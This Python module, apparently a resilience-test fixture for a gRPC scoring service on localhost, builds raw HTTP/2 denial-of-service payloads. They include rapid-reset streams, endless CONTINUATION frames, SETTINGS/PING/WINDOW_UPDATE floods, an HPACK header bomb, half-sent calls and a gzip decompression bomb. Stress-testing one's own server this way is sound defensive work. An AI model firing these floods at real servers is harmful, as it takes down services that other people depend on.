"""The floods: bytes of HTTP/2 that no proper client sends."""

from __future__ import annotations

import gzip
import struct
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from types import MappingProxyType
from typing import Final

__all__ = ["FLOODS", "OPENING", "SETTINGS_ACK", "Chunks", "Flood"]

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_PATH = "/presage.v1.ScoringService/Score"
_CHUNK = 200
"""Frames that are sent at once."""
_DATA_BYTES = 16_384
"""The largest frame that every server takes."""
_HALF_SENT_CALLS = 1_000
_BOMB_BYTES = 1 << 28
"""Of a compressed request, inflated: a thousand times what is sent."""

Chunks = Callable[[int], bytes]
"""Returns what is sent after a number of chunks; nothing: the connection is held open."""


def _frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _literal(name: str, value: str) -> bytes:
    """Write a header field as HPACK's literal that is kept in no table; both are short."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _head(**more: str) -> bytes:
    fields = {":method": "POST", ":scheme": "https", ":path": _PATH, ":authority": "localhost", "te": "trailers"}
    fields |= {"content-type": "application/grpc"} | {name.replace("_", "-"): value for name, value in more.items()}
    return b"".join(_literal(name, value) for name, value in fields.items())


SETTINGS_ACK: Final = _frame(_SETTINGS, 1)
OPENING: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS)


def _streams(chunk: int, frames: Callable[[int], bytes]) -> bytes:
    return b"".join(frames(2 * (chunk * _CHUNK + number) + 1) for number in range(_CHUNK))


def _rapid_reset() -> Chunks:
    head, cancel = _head(), struct.pack(">I", 8)
    return lambda chunk: _streams(
        chunk,
        lambda stream: _frame(_HEADERS, _END_HEADERS, stream, head) + _frame(_RST_STREAM, 0, stream, cancel),
    )


def _continuation() -> Chunks:
    more = _frame(_CONTINUATION, 0, 1, b"".join(_literal(f"x-{number}", "v" * 60) for number in range(20))) * 40
    return lambda chunk: _frame(_HEADERS, 0, 1, _head()) if chunk == 0 else more


def _repeated(frame: bytes) -> Chunks:
    return lambda _: frame * 2_000


def _header_bomb() -> Chunks:
    """Name a field of 4,000 bytes a thousand times in each call: HPACK's table makes a byte of each."""
    kept = (
        b"\x40" + bytes([1]) + b"b" + b"\x7f" + bytes([0xA1, 0x1E]) + b"v" * 4_000
    )  # 127 + 0x21 + (0x1e << 7) = 4,000
    first, others = _head() + kept, _head() + b"\xbe" * 1_000
    return lambda chunk: b"".join(
        _frame(
            _HEADERS,
            _END_HEADERS | _END_STREAM,
            2 * (20 * chunk + number) + 1,
            first if not chunk and not number else others,
        )
        for number in range(20)
    )


def _half_sent() -> Chunks:
    head, half = _head(), struct.pack(">BI", 0, 1_000) + b"half"

    def chunk_of(chunk: int) -> bytes:
        if chunk * _CHUNK >= _HALF_SENT_CALLS:
            return b""
        return _streams(
            chunk, lambda stream: _frame(_HEADERS, _END_HEADERS, stream, head) + _frame(_DATA, 0, stream, half)
        )

    return chunk_of


def _bomb() -> Chunks:
    squeezed = gzip.compress(bytes(_BOMB_BYTES))
    body = struct.pack(">BI", 1, len(squeezed)) + squeezed
    pieces = [body[at : at + _DATA_BYTES] for at in range(0, len(body), _DATA_BYTES)]
    chunks = [_frame(_HEADERS, _END_HEADERS, 1, _head(grpc_encoding="gzip"))]
    chunks += [_frame(_DATA, 0, 1, piece) for piece in pieces[:-1]] + [_frame(_DATA, _END_STREAM, 1, pieces[-1])]
    return lambda chunk: chunks[chunk] if chunk < len(chunks) else b""


def _endless() -> Chunks:
    data = _frame(_DATA, 0, 1, bytes(_DATA_BYTES))
    head = _frame(_HEADERS, _END_HEADERS, 1, _head()) + _frame(_DATA, 0, 1, struct.pack(">BI", 0, 2**32 - 1))
    return lambda chunk: data if chunk else head


@dataclass(frozen=True, kw_only=True, slots=True)
class Flood:
    """What is sent, and by how many connections at once."""

    chunks: Callable[[], Chunks]
    connections: int
    means: str
    keeps_to_windows: bool = False
    """Whether no more data is sent than the server asks for; otherwise little is sent, or windows are what is flooded."""


FLOODS: Final[Mapping[str, Flood]] = MappingProxyType(
    {
        "rapid reset": Flood(chunks=_rapid_reset, connections=1, means="calls that are reset as soon as they are sent"),
        "CONTINUATION": Flood(chunks=_continuation, connections=10, means="headers of one call that never end"),
        "SETTINGS": Flood(
            chunks=lambda: _repeated(_frame(_SETTINGS)),
            connections=10,
            means="settings, each of which is to be acknowledged",
        ),
        "PING": Flood(
            chunks=lambda: _repeated(_frame(_PING, payload=bytes(8))),
            connections=10,
            means="pings, each of which is to be answered",
        ),
        "WINDOW_UPDATE": Flood(
            chunks=lambda: _repeated(_frame(_WINDOW_UPDATE, payload=struct.pack(">I", 1))),
            connections=10,
            means="windows that grow by a byte",
        ),
        "headers from a table": Flood(
            chunks=_header_bomb, connections=10, means="calls with 4 MB of headers, in a kilobyte each"
        ),
        "half-sent calls": Flood(
            chunks=_half_sent, connections=100, means="1,000 calls on each connection, whose rest does not come"
        ),
        "compressed requests": Flood(
            chunks=_bomb, connections=5, means="calls of 260 kB that are 268 MB inflated", keeps_to_windows=True
        ),
        "a message without end": Flood(
            chunks=_endless,
            connections=1,
            means="a message of 4 GiB, sent as fast as it is taken",
            keeps_to_windows=True,
        ),
    }
)
